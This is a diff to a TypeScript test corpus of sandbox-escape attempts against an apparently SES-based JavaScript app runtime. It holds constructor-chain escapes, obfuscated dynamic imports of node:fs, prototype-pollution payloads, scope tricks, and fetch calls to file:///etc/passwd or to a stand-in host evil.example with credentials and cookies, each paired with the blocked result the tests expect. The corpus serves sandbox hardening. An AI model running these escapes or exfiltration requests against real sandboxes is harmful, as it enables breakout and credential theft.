@@ -1,7 +1,7 @@
 /**
  * The escape corpus: attempts by user code to reach the host (the worker's global scope, the
  * engine, the platform) or to change something another app or the host can see. Plain data,
- * so the Node tests and a browser run can share it; issue 3 grows it to 150+.
+ * so the Node tests (escapeCorpus.test.ts) and the Chromium run (e2e/escapeCorpus.spec.ts) share it.
  *
  * Every attempt runs in an app whose entities are `Input1` (input), `Text1` (text), `Query1`
  * (query with rows `[{ id: 1, name: 'Ada' }]`) and `JSObject1` (`{ count: 1, items: [1], total() }`).
@@ -11,7 +11,7 @@
  */
 export interface EscapeAttempt {
   id: string;
-  category: 'constructor' | 'eval' | 'import' | 'pollution' | 'endowment' | 'globals' | 'stack' | 'scope' | 'data';
+  category: 'constructor' | 'eval' | 'import' | 'pollution' | 'unscopables' | 'with' | 'endowment' | 'timer' | 'fetch' | 'globals' | 'platform' | 'stack' | 'scope' | 'data';
   /** `binding`: `code` is an expression evaluated as a data field. `handler`: the body of an async event handler; its `return` value is checked. */
   where: 'binding' | 'handler';
   code: string;
@@ -25,6 +25,11 @@ export const hostGlobalNames = [
   'XMLHttpRequest', 'WebSocket', 'BroadcastChannel', 'caches', 'navigator', 'location', 'close', 'onmessage',
   'setTimeout', 'clearTimeout', 'queueMicrotask', 'performance', 'crypto', 'SharedArrayBuffer', 'Atomics', 'WebAssembly',
   'process', 'require', 'module', 'global', 'Buffer', 'console',
+  // Platform constructors and functions of a worker: none is endowed, so none may be visible.
+  'Worker', 'SharedWorker', 'MessageChannel', 'MessagePort', 'Blob', 'File', 'FileReader', 'URL', 'URLSearchParams',
+  'DOMException', 'Event', 'EventTarget', 'CustomEvent', 'AbortController', 'Headers', 'Request', 'Response', 'FormData',
+  'ReadableStream', 'structuredClone', 'atob', 'btoa', 'reportError', 'addEventListener', 'dispatchEvent', 'EventSource',
+  'Notification', 'OffscreenCanvas', 'createImageBitmap', 'isSecureContext', 'origin', 'crossOriginIsolated', 'scheduler',
 ] as const;
 
 const typeofAll = `[${hostGlobalNames.map((n) => `typeof ${n}`).join(', ')}]`;
@@ -33,6 +38,10 @@ const allUndefined = hostGlobalNames.map(() => 'undefined');
 const probe = (expr: string) => `(() => { try { const g = ${expr}; return [typeof g?.postMessage, typeof g?.process, typeof g?.importScripts, typeof g?.document]; } catch (e) { return 'threw'; } })()`;
 const fourUndefined = ['undefined', 'undefined', 'undefined', 'undefined'];
 const attempt = (expr: string) => `(() => { try { return ${expr}; } catch (e) { return 'threw'; } })()`;
+/** A handler that fetches `url` and says whether the runtime refused the scheme before any request. */
+const fetchScheme = (url: string) => `try { await fetch(${JSON.stringify(url)}); return 'fetched'; } catch (e) { return String(e.message).includes('only http and https') ? 'refused' : 'failed'; }`;
+/** A handler whose fetch goes through (or fails on the network); the test checks what the host was asked to send. */
+const fetchWith = (init: string) => `try { await fetch('http://127.0.0.1:9/x', ${init}); } catch (e) { /* no network in the corpus */ } return 'sent';`;
 
 export const escapeCorpus: readonly EscapeAttempt[] = [
   // Constructor chains of every function kind, from intrinsics and from endowments.
@@ -157,4 +166,149 @@ export const escapeCorpus: readonly EscapeAttempt[] = [
   { id: 'date-works', category: 'data', where: 'binding', code: 'typeof Date.now() === "number" && new Date(0).toISOString()', expect: '1970-01-01T00:00:00.000Z' },
   { id: 'random-works', category: 'data', where: 'binding', code: '(() => { const r = Math.random(); return r >= 0 && r < 1; })()', expect: true },
   { id: 'query-data-is-plain', category: 'data', where: 'handler', code: 'await Query1.run(); return [Object.getPrototypeOf(Query1.data) === Array.prototype, Object.isFrozen(Query1.data), Object.getPrototypeOf(Query1.data[0]) === Object.prototype];', expect: [true, true, true] },
+
+  // More constructor chains: every other kind of function user code can hold.
+  { id: 'bound-function-constructor', category: 'constructor', where: 'binding', code: probe("(function () {}).bind(null).constructor('return this')()") },
+  { id: 'bound-arrow-constructor', category: 'constructor', where: 'binding', code: probe("(() => 0).bind(null).constructor('return this')()") },
+  { id: 'object-method-constructor', category: 'constructor', where: 'binding', code: probe("({ m() {} }).m.constructor('return this')()") },
+  { id: 'class-method-constructor', category: 'constructor', where: 'binding', code: probe("(class { m() {} }).prototype.m.constructor('return this')()") },
+  { id: 'class-static-this-constructor', category: 'constructor', where: 'binding', code: probe("(class { static f = this.constructor; }).f('return this')()") },
+  { id: 'getter-literal-constructor', category: 'constructor', where: 'binding', code: probe("Object.getOwnPropertyDescriptor({ get x() { return 1; } }, 'x').get.constructor('return this')()") },
+  { id: 'setter-literal-constructor', category: 'constructor', where: 'binding', code: probe("Object.getOwnPropertyDescriptor({ set x(v) {} }, 'x').set.constructor('return this')()") },
+  { id: 'async-arrow-constructor', category: 'constructor', where: 'binding', code: attempt("(async () => {}).constructor('return this')"), expect: 'threw' },
+  { id: 'async-method-constructor', category: 'constructor', where: 'binding', code: attempt("({ async m() {} }).m.constructor('return this')"), expect: 'threw' },
+  { id: 'generator-method-constructor', category: 'constructor', where: 'binding', code: attempt("({ *g() {} }).g.constructor('return this')"), expect: 'threw' },
+  { id: 'async-generator-method-constructor', category: 'constructor', where: 'binding', code: attempt("({ async *g() {} }).g.constructor('return this')"), expect: 'threw' },
+  { id: 'function-prototype-constructor', category: 'constructor', where: 'binding', code: attempt("Reflect.getPrototypeOf(Function).constructor('return this')"), expect: 'threw' },
+  { id: 'error-proto-constructor', category: 'constructor', where: 'binding', code: probe("Error.__proto__.constructor('return this')()") },
+  { id: 'error-prototype-constructor-chain', category: 'constructor', where: 'binding', code: probe("Error.prototype.constructor.constructor('return this')()") },
+  { id: 'iterator-constructor-chain', category: 'constructor', where: 'binding', code: probe("Object.getPrototypeOf(Object.getPrototypeOf([][Symbol.iterator]())).constructor.constructor('return this')()") },
+  { id: 'proxy-constructor-chain', category: 'constructor', where: 'binding', code: probe("new Proxy({}, {}).constructor.constructor('return this')()") },
+  { id: 'cordon-constructor-chain', category: 'constructor', where: 'binding', code: probe("cordon.constructor.constructor('return this')()") },
+  { id: 'entity-constructor-chain', category: 'constructor', where: 'binding', code: probe("Input1.constructor.constructor('return this')()") },
+  { id: 'query-data-constructor-chain', category: 'constructor', where: 'binding', code: probe("Query1.data.constructor.constructor('return this')()") },
+  { id: 'showAlert-bound-constructor', category: 'constructor', where: 'binding', code: probe("showAlert.bind(null).constructor('return this')()") },
+  { id: 'store-value-constructor-chain', category: 'constructor', where: 'handler', code: "await storeValue('o', { a: 1 }, false); try { return typeof cordon.store.o.constructor.constructor('return this')().postMessage; } catch (e) { return 'threw'; }" },
+
+  // More eval and import() forms: strings built at run time, templates, nested evaluators.
+  { id: 'function-import-concat', category: 'import', where: 'binding', code: attempt("Function('return imp' + 'ort(\"node:fs\")')"), expect: 'threw' },
+  { id: 'eval-import-concat', category: 'import', where: 'binding', code: attempt("(0, eval)('imp' + 'ort(\"node:fs\")')"), expect: 'threw' },
+  { id: 'compartment-import-concat', category: 'import', where: 'binding', code: attempt("new Compartment({ __options__: true }).evaluate('imp' + 'ort(\"node:fs\")')"), expect: 'threw' },
+  { id: 'function-import-string', category: 'import', where: 'binding', code: "Function('import(\"x\")')" },
+  { id: 'template-dynamic-import', category: 'import', where: 'binding', code: '`${import("node:fs")}`' },
+  { id: 'template-import-in-handler', category: 'import', where: 'handler', code: 'return `${await import("node:os")}`;' },
+  { id: 'function-direct-eval-concat', category: 'eval', where: 'binding', code: probe("Function('return ev' + 'al(\"this\")')()") },
+  { id: 'function-sloppy-this', category: 'eval', where: 'binding', code: "Function('return (function () { return this; })()')()", expect: undefined },
+  { id: 'eval-var-declaration', category: 'eval', where: 'binding', code: "(() => { (0, eval)('var leakedVar = 1'); return [typeof leakedVar, Object.getOwnPropertyNames(globalThis).includes('leakedVar')]; })()", expect: ['undefined', false] },
+  { id: 'function-assign-undeclared', category: 'eval', where: 'binding', code: attempt("Function('leakedFn = 1')()"), expect: 'threw' },
+  { id: 'eval-function-declaration-scope', category: 'eval', where: 'binding', code: "(() => { (0, eval)('function leakedFn() {}'); return typeof leakedFn; })()", expect: 'undefined' },
+  { id: 'nested-compartment-endowed-global', category: 'eval', where: 'binding', code: "new Compartment({ __options__: true, globals: { g: globalThis } }).evaluate('typeof g.postMessage')", expect: 'undefined' },
+  { id: 'nested-compartment-host-names', category: 'globals', where: 'binding', code: "new Compartment({ __options__: true }).evaluate('[typeof caches, typeof indexedDB, typeof self, typeof process]')", expect: ['undefined', 'undefined', 'undefined', 'undefined'] },
+  { id: 'eval-navigator', category: 'globals', where: 'binding', code: "(0, eval)('typeof navigator')", expect: 'undefined' },
+  { id: 'function-location', category: 'globals', where: 'binding', code: "Function('return typeof location')()", expect: 'undefined' },
+  { id: 'function-self-importScripts', category: 'globals', where: 'binding', code: "Function('return typeof self + typeof globalThis.importScripts')()", expect: 'undefinedundefined' },
+
+  // More prototype pollution: every shared prototype the issue names, and __proto__ in data.
+  { id: 'symbol-prototype-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Symbol.prototype, 'polluted', { value: 1 })"), expect: 'threw' },
+  { id: 'symbol-prototype-toString', category: 'pollution', where: 'binding', code: attempt("(Symbol.prototype.toString = () => 'x')"), expect: 'threw' },
+  { id: 'promise-prototype-catch-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Promise.prototype, 'catch', { value: () => 1 })"), expect: 'threw' },
+  { id: 'function-prototype-bind', category: 'pollution', where: 'binding', code: attempt('(Function.prototype.bind = () => 1)'), expect: 'threw' },
+  { id: 'function-prototype-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Function.prototype, 'polluted', { value: 1 })"), expect: 'threw' },
+  { id: 'array-prototype-map-define', category: 'pollution', where: 'binding', code: attempt("Object.defineProperty(Array.prototype, 'map', { value: () => [] })"), expect: 'threw' },
+  { id: 'array-proto-accessor', category: 'pollution', where: 'binding', code: attempt("([]).__proto__.polluted = 'yes'"), expect: 'threw' },
+  { id: 'object-assign-object-prototype', category: 'pollution', where: 'binding', code: attempt('Object.assign(Object.prototype, { polluted: 1 })'), expect: 'threw' },
+  { id: 'object-assign-json-proto', category: 'pollution', where: 'binding', code: "(() => { Object.assign({}, JSON.parse('{\"__proto__\": {\"polluted\": 1}}')); return ({}).polluted; })()", expect: undefined },
+  { id: 'spread-json-proto', category: 'pollution', where: 'binding', code: "(() => { const o = { ...JSON.parse('{\"__proto__\": {\"polluted\": 1}}') }; return [({}).polluted, Object.getPrototypeOf(o) === Object.prototype]; })()", expect: [undefined, true] },
+  { id: 'json-reviver-proto', category: 'pollution', where: 'binding', code: "(() => { JSON.parse('{\"a\":1}', function (k, v) { try { this.__proto__.polluted = 1; } catch (e) {} return v; }); return ({}).polluted; })()", expect: undefined },
+  { id: 'delete-object-prototype-proto', category: 'pollution', where: 'binding', code: attempt('delete Object.prototype.__proto__'), expect: 'threw' },
+  { id: 'iterator-prototype-next', category: 'pollution', where: 'binding', code: attempt('(Object.getPrototypeOf([][Symbol.iterator]()).next = () => ({ done: true }))'), expect: 'threw' },
+  { id: 'regexp-prototype-exec', category: 'pollution', where: 'binding', code: attempt('(RegExp.prototype.exec = () => null)'), expect: 'threw' },
+  { id: 'typed-array-prototype-set', category: 'pollution', where: 'binding', code: attempt('(Object.getPrototypeOf(Uint8Array).prototype.set = () => 0)'), expect: 'threw' },
+  { id: 'error-prototype-name', category: 'pollution', where: 'binding', code: attempt("(Error.prototype.name = 'Evil')"), expect: 'threw' },
+  { id: 'endowed-math-mutate', category: 'pollution', where: 'binding', code: attempt('(Math.PI = 3)'), expect: 'threw' },
+  { id: 'endowed-date-prototype', category: 'pollution', where: 'binding', code: attempt('(Date.prototype.getTime = () => 0)'), expect: 'threw' },
+  { id: 'query-param-nested-proto', category: 'pollution', where: 'handler', code: "await Query1.run({ a: JSON.parse('{\"__proto__\": {\"polluted\": 1}}') }); return [({}).polluted, ({}).a];", expect: [undefined, undefined] },
+
+  // Symbol.unscopables: the scope machinery of SES must not be steerable from user code.
+  { id: 'unscopables-object-prototype', category: 'unscopables', where: 'binding', code: attempt('(Object.prototype[Symbol.unscopables] = { Input1: true })'), expect: 'threw' },
+  { id: 'unscopables-array-mutate', category: 'unscopables', where: 'binding', code: attempt('(Array.prototype[Symbol.unscopables].map = false)'), expect: 'threw' },
+  { id: 'unscopables-define-global', category: 'unscopables', where: 'binding', code: attempt('Object.defineProperty(globalThis, Symbol.unscopables, { value: {} })'), expect: 'threw' },
+  { id: 'unscopables-on-entity', category: 'unscopables', where: 'binding', code: attempt('(Input1[Symbol.unscopables] = { text: true })'), expect: 'threw' },
+  { id: 'unscopables-global-read', category: 'unscopables', where: 'binding', code: 'typeof globalThis[Symbol.unscopables]', expect: 'undefined' },
+
+  // with-statement tricks, through the evaluators that allow sloppy code.
+  { id: 'with-in-function', category: 'with', where: 'binding', code: attempt("Function('with ({}) { return typeof postMessage; }')()"), expect: 'threw' },
+  { id: 'with-proxy-has-false', category: 'with', where: 'binding', code: attempt("Function('p', 'with (p) { return typeof postMessage; }')(new Proxy({}, { has: () => false }))"), expect: 'threw' },
+  { id: 'with-proxy-has-true', category: 'with', where: 'binding', code: probe("Function('p', 'with (p) { return globalThis; }')(new Proxy({}, { has: () => true, get: () => undefined }))") },
+  { id: 'with-unscopables-eval', category: 'with', where: 'binding', code: attempt("Function('o', 'with (o) { return typeof eval; }')({ [Symbol.unscopables]: { eval: true } })"), expect: 'threw' },
+  { id: 'with-entity-scope', category: 'with', where: 'binding', code: attempt("Function('with (Input1) { return text; }')()"), expect: 'threw' },
+
+  // Error stacks: the V8 hooks do nothing for user code.
+  { id: 'prepare-stack-trace-callsites', category: 'stack', where: 'handler', code: "try { Error.prepareStackTrace = (e, s) => s.map((f) => typeof f.getThis); } catch (x) { /* frozen */ } return typeof new Error('x').stack;", expect: 'string' },
+  { id: 'capture-stack-trace-function', category: 'stack', where: 'binding', code: "(() => { const o = {}; try { Error.captureStackTrace(o, Function); } catch (e) { return 'threw'; } return typeof o.stack === 'string' ? o.stack : typeof o.stack; })()" },
+  { id: 'stack-trace-limit', category: 'stack', where: 'binding', code: "(() => { try { Error.stackTraceLimit = Infinity; } catch (e) { /* ignored */ } return String(new Error('x').stack ?? '').split('\\n').length < 50; })()", expect: true },
+  { id: 'recursion-range-error', category: 'stack', where: 'binding', code: "(() => { const f = () => f(); try { f(); } catch (e) { return String(e.stack ?? ''); } })()" },
+  { id: 'framework-error-shape', category: 'stack', where: 'binding', code: "(() => { try { storeValue('a', 1); } catch (e) { return [e instanceof Error, Object.getPrototypeOf(e) === Error.prototype]; } })()", expect: [true, true] },
+  { id: 'fetch-error-shape', category: 'platform', where: 'handler', code: "try { await fetch('http://127.0.0.1:9/'); } catch (e) { return [e instanceof Error, e.constructor === Error, typeof DOMException]; }", expect: [true, true, 'undefined'] },
+  { id: 'aggregate-error-errors', category: 'stack', where: 'handler', code: "try { await Promise.any([fetch('file:///x'), fetch('data:,x')]); return 'resolved'; } catch (e) { return e.errors.map((x) => Object.getPrototypeOf(x) === Error.prototype && String(x.stack ?? '') === ''); }", expect: [true, true] },
+
+  // Getters on endowments: user code can hold them, but they lead nowhere.
+  { id: 'entity-descriptors', category: 'endowment', where: 'binding', code: 'Object.keys(Object.getOwnPropertyDescriptors(Input1))' },
+  { id: 'query-getter-this-swap', category: 'endowment', where: 'binding', code: "Object.getOwnPropertyDescriptor(Query1, 'data').get.call({ data: 'evil' }).length", expect: 0 },
+  { id: 'cordon-getter-this-swap', category: 'endowment', where: 'binding', code: "Object.getOwnPropertyDescriptor(cordon, 'store').get.call(null).token", expect: 't' },
+  { id: 'getter-caller', category: 'endowment', where: 'binding', code: attempt("Object.getOwnPropertyDescriptor(Input1, 'text').get.caller") },
+  { id: 'store-define-getter', category: 'endowment', where: 'binding', code: attempt("cordon.store.__defineGetter__('token', () => 'evil')"), expect: 'threw' },
+
+  // Mutation of endowments and of their prototypes.
+  { id: 'framework-function-prototype', category: 'endowment', where: 'binding', code: attempt('(Object.getPrototypeOf(storeValue).polluted = 1)'), expect: 'threw' },
+  { id: 'framework-function-replace-prototype', category: 'endowment', where: 'binding', code: attempt('Object.setPrototypeOf(showAlert, null)'), expect: 'threw' },
+  { id: 'query-run-replace', category: 'endowment', where: 'binding', code: attempt('(Query1.run = () => [])'), expect: 'threw' },
+  { id: 'query-run-property', category: 'endowment', where: 'binding', code: attempt("(Query1.run.evil = 'yes')"), expect: 'threw' },
+  { id: 'query-define-data', category: 'endowment', where: 'binding', code: attempt("Object.defineProperty(Query1, 'data', { value: [] })"), expect: 'threw' },
+  { id: 'cordon-define-user', category: 'endowment', where: 'binding', code: attempt("Object.defineProperty(cordon, 'user', { value: { role: 'administrator' } })"), expect: 'threw' },
+  { id: 'cordon-setPrototypeOf', category: 'endowment', where: 'binding', code: attempt('Object.setPrototypeOf(cordon, { evil: 1 })'), expect: 'threw' },
+  { id: 'cordon-url-query-mutate', category: 'endowment', where: 'handler', code: "try { cordon.url.query.x = 'evil'; return 'mutated'; } catch (e) { return 'threw'; }", expect: 'threw' },
+  { id: 'js-object-function-replace', category: 'endowment', where: 'binding', code: attempt('(JSObject1.total = () => 0)'), expect: 'threw' },
+  { id: 'js-object-define-key', category: 'endowment', where: 'binding', code: attempt("Object.defineProperty(JSObject1, 'evil', { value: 1 })"), expect: 'threw' },
+  { id: 'setter-function-property', category: 'endowment', where: 'binding', code: attempt("(Input1.setValue.evil = 'yes')"), expect: 'threw' },
+  { id: 'store-nested-mutate', category: 'endowment', where: 'handler', code: "await storeValue('n', { a: { b: 1 } }, false); try { cordon.store.n.a.b = 2; return 'mutated'; } catch (e) { return 'threw'; }", expect: 'threw' },
+  { id: 'stored-value-is-a-copy', category: 'endowment', where: 'handler', code: "const mine = { a: 1 }; await storeValue('c', mine, false); mine.a = 2; return cordon.store.c.a;", expect: 1 },
+
+  // Timers: only functions, bounded counts, coerced delays and ids.
+  { id: 'interval-in-binding', category: 'timer', where: 'binding', code: attempt('setInterval(() => 0, 10)'), expect: 'threw' },
+  { id: 'interval-negative-ms', category: 'timer', where: 'handler', code: "const id = setInterval(() => 0, -5, 'neg'); clearInterval(id); return id;", expect: 'neg' },
+  { id: 'interval-nan-ms', category: 'timer', where: 'handler', code: "const id = setInterval(() => 0, NaN, 'nan'); clearInterval(id); return id;", expect: 'nan' },
+  { id: 'interval-object-callback', category: 'timer', where: 'handler', code: "try { setInterval({ toString() { return 'globalThis.leaked = 1'; } }, 10, 'o'); return 'scheduled'; } catch (e) { return 'threw'; }", expect: 'threw' },
+  { id: 'interval-object-id', category: 'timer', where: 'handler', code: "const id = setInterval(() => 0, 1000, { toString() { return 'obj'; } }); clearInterval('obj'); return id;", expect: 'obj' },
+  { id: 'interval-throwing-id', category: 'timer', where: 'handler', code: "try { setInterval(() => 0, 1000, { toString() { throw new Error('boom'); } }); return 'scheduled'; } catch (e) { return 'threw'; }", expect: 'threw' },
+  { id: 'interval-ms-valueOf-object', category: 'timer', where: 'handler', code: "try { const id = setInterval(() => 0, { valueOf() { return globalThis; } }, 'v'); clearInterval(id); return id; } catch (e) { return 'threw'; }" },
+  { id: 'interval-replace-same-id', category: 'timer', where: 'handler', code: "for (let i = 0; i < 500; i++) setInterval(() => 0, 1000, 'same'); clearInterval('same'); return 'ok';", expect: 'ok' },
+
+  // fetch: no credentials, no cookies, no scheme other than http(s), whatever the arguments.
+  { id: 'fetch-file-scheme', category: 'fetch', where: 'handler', code: fetchScheme('file:///etc/passwd'), expect: 'refused' },
+  { id: 'fetch-data-scheme', category: 'fetch', where: 'handler', code: fetchScheme('data:text/plain,hello'), expect: 'refused' },
+  { id: 'fetch-blob-scheme', category: 'fetch', where: 'handler', code: fetchScheme('blob:http://127.0.0.1/1234'), expect: 'refused' },
+  { id: 'fetch-javascript-scheme', category: 'fetch', where: 'handler', code: fetchScheme('javascript:postMessage(1)'), expect: 'refused' },
+  { id: 'fetch-ws-scheme', category: 'fetch', where: 'handler', code: fetchScheme('ws://127.0.0.1/'), expect: 'refused' },
+  { id: 'fetch-upper-case-file', category: 'fetch', where: 'handler', code: fetchScheme(' FILE:///etc/passwd'), expect: 'refused' },
+  { id: 'fetch-in-binding', category: 'fetch', where: 'binding', code: attempt("fetch('http://127.0.0.1:9/')"), expect: 'threw' },
+  { id: 'fetch-credentials-include', category: 'fetch', where: 'handler', code: fetchWith("{ credentials: 'include' }"), expect: 'sent' },
+  { id: 'fetch-cookie-headers', category: 'fetch', where: 'handler', code: fetchWith("{ headers: { Cookie: 'a=1', cookie: 'b=2', COOKIE2: 'c', 'Set-Cookie': 'd=4' } }"), expect: 'sent' },
+  { id: 'fetch-no-cors-mode', category: 'fetch', where: 'handler', code: fetchWith("{ mode: 'no-cors', referrer: 'http://evil.example/', keepalive: true, redirect: 'manual' }"), expect: 'sent' },
+  { id: 'fetch-credentials-getter', category: 'fetch', where: 'handler', code: fetchWith("{ get credentials() { return 'include'; }, headers: [['Cookie', 'x=1']] }"), expect: 'sent' },
+  { id: 'fetch-body-getter', category: 'fetch', where: 'handler', code: fetchWith("{ method: 'POST', body: { get secret() { return globalThis; }, plain: 1 } }"), expect: 'sent' },
+  { id: 'fetch-protocol-relative', category: 'fetch', where: 'handler', code: "try { await fetch('//evil.example/x', { credentials: 'include' }); } catch (e) { /* no network */ } return 'sent';", expect: 'sent' },
+  { id: 'fetch-result-is-plain', category: 'fetch', where: 'handler', code: "const p = fetch('file:///x'); return [Object.getPrototypeOf(p) === Promise.prototype, await p.then(() => 'ok', (e) => Object.getPrototypeOf(e) === Error.prototype)];", expect: [true, true] },
+
+  // Worker globals by every route: scope, prototype chain, enumeration, callbacks' this.
+  { id: 'platform-typeof', category: 'platform', where: 'binding', code: '[typeof Event, typeof EventTarget, typeof MessageChannel, typeof Blob, typeof URL, typeof DOMException, typeof WebAssembly, typeof SharedArrayBuffer, typeof Atomics]', expect: Array.from({ length: 9 }, () => 'undefined') },
+  { id: 'text-encoder-is-hardened', category: 'platform', where: 'binding', code: "typeof TextEncoder === 'undefined' || (Object.isFrozen(TextEncoder) && Object.isFrozen(TextEncoder.prototype))", expect: true },
+  { id: 'text-encoder-prototype-mutate', category: 'platform', where: 'binding', code: attempt('(TextEncoder.prototype.encode = () => 1)'), expect: 'threw' },
+  { id: 'global-prototype-chain', category: 'globals', where: 'binding', code: "(() => { const found = []; let o = globalThis; while ((o = Object.getPrototypeOf(o))) found.push(Object.getOwnPropertyNames(o).includes('postMessage')); return found; })()", expect: [false] },
+  { id: 'global-constructor-is-object', category: 'globals', where: 'binding', code: 'globalThis.constructor === Object', expect: true },
+  { id: 'global-event-handlers', category: 'globals', where: 'binding', code: "Reflect.ownKeys(globalThis).filter((k) => typeof k === 'string' && /^(on|webkit)/.test(k))", expect: [] },
+  { id: 'atomics-has', category: 'globals', where: 'binding', code: "[Reflect.has(globalThis, 'Atomics'), Reflect.has(globalThis, 'SharedArrayBuffer'), Reflect.has(globalThis, 'WebAssembly')]", expect: [false, false, false] },
+  { id: 'promise-callback-this', category: 'scope', where: 'handler', code: 'return await Promise.resolve().then(function () { return typeof this; });', expect: 'undefined' },
+  { id: 'array-callback-this', category: 'scope', where: 'binding', code: '[1].map(function () { return typeof this; })', expect: ['undefined'] },
+  { id: 'getter-global-descriptor', category: 'globals', where: 'binding', code: "(() => { const d = Object.getOwnPropertyDescriptor(globalThis, 'Input1'); return [d.writable, d.configurable, typeof d.get]; })()", expect: [false, false, 'undefined'] },
 ];
